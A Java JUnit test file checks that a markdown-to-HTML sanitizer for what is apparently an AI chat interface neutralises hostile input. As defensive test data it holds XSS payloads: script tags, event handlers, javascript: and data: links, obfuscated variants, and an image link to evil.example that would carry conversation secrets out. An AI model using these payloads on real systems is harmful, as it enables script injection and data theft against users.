package dev.atelier.web.shell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @Test
    void markdownBecomesHtml() {
        assertThat(SafeHtml.ofMarkdown("Your page is **up**:\n\n- `App.jsx`\n- dates"))
                .isEqualTo("""
                        <p>Your page is <strong>up</strong>:</p>
                        <ul>
                        <li><code>App.jsx</code></li>
                        <li>dates</li>
                        </ul>
                        """);
    }

    @Test
    void tablesAndCodeBlocksAreShown() {
        assertThat(SafeHtml.ofMarkdown("|a|b|\n|-|-|\n|1|2|\n")).contains("<table>", "<td>1</td>");
        assertThat(SafeHtml.ofMarkdown("```js\nlet a = 1 < 2;\n```"))
                .isEqualTo("<pre><code class=\"language-js\">let a = 1 &lt; 2;\n</code></pre>\n");
    }

    @Test
    @DisplayName("X18 a link opens outside, without a referrer and without our reputation")
    void links() {
        assertThat(SafeHtml.ofMarkdown("[docs](https://example.org/a?b=c)"))
                .isEqualTo("<p><a rel=\"noopener noreferrer nofollow\" href=\"https://example.org/a?b=c\""
                        + " target=\"_blank\">docs</a></p>\n");
    }

    @ParameterizedTest
    @DisplayName("X18 nothing that a model or a person writes becomes a script, a frame, a form or a style")
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<iframe src=https://evil.example></iframe>",
                "<svg/onload=alert(1)>",
                "<a href='javascript:alert(1)'>x</a>",
                "<form action=https://evil.example><input name=q></form>",
                "<style>body{display:none}</style>",
                "<b onclick=alert(1)>bold</b>",
                "<!-- --><script>alert(1)</script>",
                "a <scr<script>ipt>alert(1)</scr</script>ipt>",
                "```\"><script>alert(1)</script>\ncode\n```",
                "```js\" onmouseover=\"alert(1)\ncode\n```",
                "<details open ontoggle=alert(1)>",
                "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
            })
    void rawHtmlIsOnlyText(String attack) {
        String html = SafeHtml.ofMarkdown(attack);
        var body = org.jsoup.Jsoup.parseBodyFragment(html).body();

        assertThat(body.select("script, iframe, img, svg, form, input, style, details, math, object, embed, b"))
                .isEmpty();
        assertThat(body.getAllElements())
                .allSatisfy(element -> assertThat(element.attributes().asList())
                        .noneMatch(attribute -> attribute.getKey().startsWith("on")));
        assertThat(body.select("a[href]")).isEmpty();
    }

    @ParameterizedTest
    @DisplayName("X18 a link to anything but a web or mail address leads nowhere")
    @ValueSource(
            strings = {
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "<javascript:alert(1)>",
                "[x][1]\n\n[1]: javascript:alert(1)",
            })
    void addressesThatRun(String attack) {
        assertThat(SafeHtml.ofMarkdown(attack))
                .doesNotContainIgnoringCase("href=\"j", "href=\"d", "href=\"v", "href=\"f");
    }

    @Test
    @DisplayName("X18 an image is never fetched: its address could carry away what the conversation holds")
    void images() {
        assertThat(SafeHtml.ofMarkdown("See ![the *new* page](https://evil.example/?secret=1) here"))
                .isEqualTo("<p>See [image: the new page] here</p>\n");
    }

    @Test
    void textThatLooksLikeHtmlIsShownAsWritten() {
        assertThat(SafeHtml.ofMarkdown("use <App /> & go")).isEqualTo("<p>use &lt;App /&gt; &amp; go</p>\n");
    }

    @Test
    void nothingIsNothing() {
        assertThat(SafeHtml.ofMarkdown("")).isEmpty();
    }
}
